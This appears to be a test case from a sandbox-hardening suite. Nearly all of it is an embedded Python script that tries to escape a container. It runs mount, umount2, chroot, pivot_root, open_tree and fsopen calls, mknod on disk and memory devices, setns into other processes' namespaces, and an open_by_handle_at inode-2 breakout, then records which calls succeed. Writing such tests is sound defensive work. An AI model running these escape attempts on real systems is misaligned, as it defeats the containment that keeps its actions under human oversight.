"""Mounts, remounts, unmounts, enters other namespaces and roots, and opens files by handle."""

from tests.hostile.case import MARK, Case

ATTACK = r"""
import ctypes, glob, os, stat

GOT, libc = [], ctypes.CDLL(None, use_errno=True)


def attempt(name, *arguments):
    if getattr(libc, name)(*arguments) >= 0:
        GOT.append((name, arguments))


def all_of_it():
    for target in (b"/", b"/usr", b"/tmp", b"/proc", b"/dev/null"):
        for flags in (32, 32 | 4096, 4096 | 16384, 1 << 18, 1 << 20, 8192):
            attempt("mount", b"none", target, None, ctypes.c_ulong(flags), None)
        for kind in (b"tmpfs", b"proc", b"sysfs", b"overlay", b"cgroup2", b"devpts", b"mqueue"):
            attempt("mount", b"MARK", target, kind, ctypes.c_ulong(0), None)
        for flags in (0, 1, 2, 8):
            attempt("umount2", target, flags)
        attempt("chroot", target)
        attempt("syscall", 155, target, target)  # pivot_root
        attempt("syscall", 428, -100, target, 1)  # open_tree(OPEN_TREE_CLONE)
        attempt("syscall", 442, -100, target, 0, b"\0" * 32, 32)  # mount_setattr
    attempt("syscall", 430, b"tmpfs", 0)  # fsopen
    attempt("mount", b"/dev/vda", b"/tmp", b"ext4", ctypes.c_ulong(1), None)
    for number in (0, 1):
        attempt("mknod", b"/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(254, number))
        attempt("mknod", b"/tmp/memory", stat.S_IFCHR | 0o600, os.makedev(1, number + 1))
    for path in glob.glob("/proc/[0-9]*/ns/*"):
        fd = os.open(path, os.O_RDONLY)
        attempt("setns", fd, 0)
    # The oldest way out of a container: the root of the disk has inode 2.
    handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
    for base in (b"/usr", b"/etc/ld.so.cache", os.__file__.encode()):
        fd = libc.open(base, 0)
        attempt("open_by_handle_at", fd, handle, 0)


ways = (0, 0x10000000, 0x10020000, 0x7E020000, 0x20000, 0x40000000, 0x20000000, 0x4000000)
try:
    os.listdir("/sys/kernel")  # no wall: that is enough, break nothing
    open("/tmp/got-all", "w").write("no jail")
    ways = ()
except OSError:
    pass
for flags in ways:
    child = os.fork()
    if child == 0:
        if flags and libc.unshare(flags) == 0:
            GOT.append(("unshare", hex(flags)))
        all_of_it()
        open(f"/tmp/got-{flags}", "w").write(repr(GOT))
        os._exit(0)
    os.waitpid(child, 0)
GOT = [text for text in (open(path).read() for path in glob.glob("/tmp/got-*")) if text != "[]"]
print(GOT)
""".replace("MARK", MARK)
CASE = Case(
    first=ATTACK,
    cells={"double": "def double(x):\n    return 2 * x if GOT else None"},
    lost={"test_double", "test_double_hidden"},
)
